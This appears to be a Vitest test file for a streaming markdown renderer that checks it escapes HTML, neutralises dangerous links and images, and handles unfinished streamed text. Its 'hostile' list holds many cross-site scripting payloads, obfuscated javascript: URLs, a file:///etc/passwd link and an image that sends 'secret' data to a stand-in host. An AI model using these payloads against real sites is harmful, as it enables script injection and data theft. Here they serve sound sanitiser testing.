// @vitest-environment happy-dom
import { describe, expect, test } from "vitest";
import { advanceSplit, emptySplit } from "./markdown-split";
import { draw, drawSplit, check } from "./test-markdown";

const hostile: readonly string[] = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil/x.js></SCRIPT>",
  "<img src=x onerror=alert(1)>",
  "text <img src=x onerror=alert(1)> text",
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<iframe src=javascript:alert(1)></iframe>",
  "<object data=javascript:alert(1)>",
  "<embed src=//evil>",
  "<form action=//evil><input name=a></form>",
  "<a href=javascript:alert(1)>x</a>",
  "<style>*{background:url(//evil)}</style>",
  "<link rel=stylesheet href=//evil>",
  "<meta http-equiv=refresh content='0;url=//evil'>",
  "<base href=//evil>",
  "<video src=//evil autoplay>",
  "<audio src=//evil>",
  "<details open ontoggle=alert(1)>",
  "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
  "<!--><script>alert(1)</script>-->",
  "<!-- unclosed <script>alert(1)</script>",
  "<![CDATA[<script>alert(1)</script>]]>",
  "<?php echo 1 ?>",
  "<div>\n\n<script>alert(1)</script>\n\n</div>",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](java\tscript:alert(1))",
  "[x](<java\nscript:alert(1)>)",
  "[x](&#106;avascript:alert(1))",
  "[x](&#x6A;avascript:alert(1))",
  "[x](javascript&colon;alert(1))",
  "[x](java&Tab;script:alert(1))",
  "[x](java&NewLine;script:alert(1))",
  "[x](\u0001javascript:alert(1))",
  "[x](\u200bjavascript:alert(1))",
  "[x](\u202ejavascript:alert(1))",
  "[x](<  javascript:alert(1)>)",
  "[x](javascript\\:alert(1))",
  "[x](javascript%3Aalert(1))",
  "[x](vbscript:msgbox(1))",
  "[x](data:text/html,<script>alert(1)</script>)",
  "[x](data:text/html;base64,PHNjcmlwdD4=)",
  "[x](file:///etc/passwd)",
  "[x](blob:https://a/b)",
  "[x](ftp://a/b)",
  "[x](ws://a/b)",
  "[x](about:blank)",
  "[x](//evil.example/x)",
  "[x](\\\\evil\\share)",
  "[x](/\\evil.example)",
  "[x](https://good.example@evil.example/)",
  "[x](https://user:pass@evil.example/)",
  "[x](http:evil)",
  "[x](https:///)",
  '[x](https://a.example "title\\" onmouseover=alert(1)")',
  '[x](https://a.example/"onmouseover=alert(1))',
  "[a]: javascript:alert(1)\n\n[a] [x][a]",
  "[a]: <java\u0000script:alert(1)>\n\n[a]",
  "<javascript:alert(1)>",
  '<https://a.example/"><script>alert(1)</script>>',
  "![x](javascript:alert(1))",
  "![x](https://evil.example/pixel.png?data=secret)",
  "![](//evil.example/p.png)",
  "![x](data:image/svg+xml,<svg onload=alert(1)>)",
  "![x][a]\n\n[a]: https://evil.example/p.png",
  "[![x](https://evil.example/p.png)](javascript:alert(1))",
  "```html onload=alert(1)\n<script>alert(1)</script>\n```",
  '```"><script>alert(1)</script>\ncode\n```',
  "`<script>alert(1)</script>`",
  "    <script>alert(1)</script>",
  "# <script>alert(1)</script>",
  "> <img src=x onerror=alert(1)>",
  "- <img src=x onerror=alert(1)>\n- [ ] <svg onload=alert(1)>",
  "| <script> | [x](javascript:a) |\n|---|---|\n| <img src=x onerror=a> | ![](http://e/x) |",
  '|a|\n|:-:" onload=alert(1)|\n|b|',
  "**<b onclick=alert(1)>x</b>**",
  "a\u0000b<\u0000script>",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&#60;script&#62;alert(1)&#60;/script&#62;",
  "[constructor]: javascript:1\n\n[constructor] [__proto__] [toString]",
  "[__proto__]: javascript:alert(1)\n\n[__proto__]",
  "&constructor; &__proto__; &toString;",
  "$(alert(1)) {{constructor.constructor('alert(1)')()}} ${alert(1)}",
  "[x](https://a.example/\u202etxt.exe)",
  `${"> ".repeat(3_000)}<script>alert(1)</script>`,
  `${"- ".repeat(400)}<script>alert(1)</script>`,
  `${"[".repeat(5_000)}x${"](javascript:a)".repeat(50)}`,
  "*a".repeat(5_000),
];

describe("hostile markdown", () => {
  test.each(hostile.map((text) => [text.length > 60 ? `${text.slice(0, 60)}…` : text, text]))(
    "%j emits no HTML, loads nothing and runs nothing",
    (_, text) => {
      check(draw(text));
      check(draw(text, true));
      for (const part of [0.3, 0.6, 0.9]) check(draw(text.slice(0, Math.floor(text.length * part)), true));
    },
  );

  test("HTML is shown as source", () => {
    expect(draw("a <b>bold</b> c")).toContain("a &lt;b&gt;bold&lt;/b&gt; c");
    expect(draw("<div>\nx\n</div>")).toContain("&lt;div&gt;\nx\n&lt;/div&gt;");
  });
});

test("character references are decoded, and what is none stays as written", () => {
  const markup = draw("&mdash;&frac34;&#x4E2D;&#59;&semi; &notit; &nothing; &copy 2026");
  expect(markup).toContain("\u2014\u00be中;; &amp;notit; &amp;nothing; &amp;copy 2026");
});

describe("links and images", () => {
  test("a web link opens in a new tab without a referrer", () => {
    const markup = draw("[words](https://a.example/b?c=d)");
    expect(markup).toContain('href="https://a.example/b?c=d"');
    expect(markup).toContain('rel="noopener noreferrer nofollow"');
    expect(markup).toContain('target="_blank"');
  });
  test("a link text that looks like another host is followed by the real host", () => {
    expect(draw("[https://bank.example/login](https://evil.example/)")).toContain("(evil.example)");
    expect(draw("[www.a.example](https://a.example/x)")).not.toContain("(a.example)");
    expect(draw("[see this](https://a.example/)")).not.toContain("(a.example)");
  });
  test("a path of the project is a button", () => {
    expect(draw("[the app](src/app.ts#L12)")).toMatch(/<button[^>]*title="src\/app\.ts"/);
    expect(draw("[the app](src/app.ts:12)")).toMatch(/<button/);
  });
  test("a remote image is a link that shows host and query", () => {
    const markup = draw("![chart](https://img.example/p.png?u=1)");
    expect(markup).not.toContain("<img");
    expect(markup).toContain("img.example/p.png?u=1");
    expect(markup).toContain("chart");
  });
  test("bidirectional control characters in text are marked", () =>
    expect(draw("a\u202eb")).toContain('aria-label="text direction character RLO"'));
});

describe("streamed text", () => {
  test("finished blocks keep their objects, also at the end", () => {
    const text = "one\n\ntwo\n\nthree\n\nfour\n\nfive";
    const early = advanceSplit(emptySplit, text.slice(0, 24), true);
    const later = advanceSplit(early, text, true);
    const end = advanceSplit(later, text, false);
    expect(early.final.length).toBeGreaterThan(0);
    for (const [index, block] of early.final.entries()) {
      expect(later.final[index]).toBe(block);
      expect(end.final[index]).toBe(block);
    }
  });

  test("a link defined at the end is a link in the finished text", () => {
    const text = "See [one].\n\nMore.\n\nMore.\n\n[one]: https://one.example";
    let split = emptySplit;
    for (let cut = 1; cut <= text.length; cut += 3) split = advanceSplit(split, text.slice(0, cut), true);
    expect(drawSplit(split)).not.toContain("href");
    expect(drawSplit(advanceSplit(split, text, false))).toContain('href="https://one.example/"');
  });
});

describe("unfinished end of a text", () => {
  test.each([
    ["text **bol", "<strong>bol</strong>"],
    ["text **", '<p dir="auto">text</p>'],
    ["see `code", "<code>code</code>"],
    ["a [link](https://exa", '<p dir="auto">a link</p>'],
    ["a [lin", '<p dir="auto">a lin</p>'],
    ["text\n\n```", '<div class="markdown" data-live="true"><p dir="auto">text</p></div>'],
    ["text\n\n```typ", '<div class="markdown" data-live="true"><p dir="auto">text</p></div>'],
    ["text\n-", '<p dir="auto">text</p>'],
    ["text\n\n#", '<div class="markdown" data-live="true"><p dir="auto">text</p></div>'],
    ["- one\n- tw", '<li dir="auto">tw</li>'],
    ["- one\n- [", '<ul><li dir="auto">one</li></ul>'],
    ["| a | b |", "<th>b</th>"],
    ["| a | b |\n|-", "<th>b</th>"],
  ])("%j is rendered completed", (text, expected) => expect(draw(text, true)).toContain(expected));

  test("a fence that is being closed shows no backticks", () =>
    expect(draw("```\ncode\n``", true)).not.toContain("``"));
});
